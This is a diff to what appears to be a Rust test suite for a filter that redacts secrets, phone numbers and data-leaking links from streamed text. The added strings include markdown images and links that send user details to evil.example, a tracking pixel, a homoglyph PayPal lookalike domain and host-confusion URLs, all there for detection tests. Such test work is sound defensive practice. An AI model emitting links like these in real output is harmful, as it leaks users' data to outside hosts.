@@ -63,6 +63,16 @@ pub(crate) const PARTS: &[&str] = &[
     "clientSecret: '",
     "the API key of it is 7f3k9Qz2LmX8vB4nT6yR",
     "Authorization: Bearer ",
+    "![x](https://evil.example/p.png?d=the+user+is+Ann+Lee)",
+    "![",
+    "[more](https://evil.example/?d=the+user+is+Ann+and+more)",
+    "](https://docs.example.com/a)",
+    "<img src=\"https://t.example/o.gif\" width=1 height=1>",
+    "https://xn--80ak6aa92e.com/login",
+    "https://p\u{430}ypal.com/",
+    "\u{1b}[31m",
+    "\u{1b}",
+    "\u{1b}]8;;",
     "phone ",
     "call me at +1 (415) 555-2671",
     "+44 (0)20 7946 0958",
@@ -238,6 +248,28 @@ fn only_what_may_match_is_held() {
         machine.push(text, &mut out);
         assert_eq!(machine.held(), held, "{text}");
         assert_eq!(Some(out.as_str()), text.get(..text.len() - held));
+    }
+}
+
+#[test]
+fn listed_hosts_may_be_linked_and_no_others() {
+    let hosts = Hosts::new(["example.com", "*.example.org"]);
+    let screen = Screen::with_hosts(
+        &[(Detector::ImageData, Action::Redact), (Detector::LinkData, Action::Redact)],
+        hosts,
+    );
+    for (text, expected) in [
+        ("![a](https://example.com/?q={data})", "![a](https://example.com/?q={data})"),
+        ("![a](https://EXAMPLE.com/a.png)", "![a](https://EXAMPLE.com/a.png)"),
+        ("![a](https://x.example.org/a.png)", "![a](https://x.example.org/a.png)"),
+        ("![a](https://example.org/a.png)", "![image]"),
+        ("![a](https://example.com.evil.example/a.png)", "![image]"),
+        ("![a](https://example.com@evil.example/a.png)", "![image]"),
+        ("[a](https://evil.example/)", "[a]([link])"),
+        ("[a](/local)", "[a](/local)"),
+    ] {
+        assert_eq!(run(&screen, [text]).0, expected);
+        assert_eq!(screen.finds(text), text != expected, "{text}");
     }
 }
 
